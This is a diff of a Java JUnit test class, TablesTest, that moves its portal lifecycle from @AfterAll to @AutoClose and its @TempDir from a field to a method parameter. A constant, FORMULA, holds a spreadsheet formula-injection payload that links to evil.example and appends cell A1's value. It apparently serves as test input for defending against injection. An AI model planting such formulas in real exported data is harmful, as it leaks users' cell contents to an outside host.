@@ -13,7 +13,7 @@ import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.regex.Pattern;
-import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AutoClose;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -23,21 +23,15 @@ class TablesTest {
     private static final int DATASETS = 130;
     private static final String FORMULA = "=HYPERLINK(\\\"https://evil.example/?x=\\\"&A1;\\\"Klicka\\\")";
 
-    @TempDir
-    private static Path data;
-
     private static final Map<String, HttpResponse<String>> files = new HashMap<>();
+
+    @AutoClose
     private static RunningPortal portal;
 
     @BeforeAll
-    static void start() throws InterruptedException {
+    static void start(@TempDir Path data) throws InterruptedException {
         portal = new RunningPortal(data);
         portal.publish(feed());
-    }
-
-    @AfterAll
-    static void stop() {
-        portal.close();
     }
 
     @Test
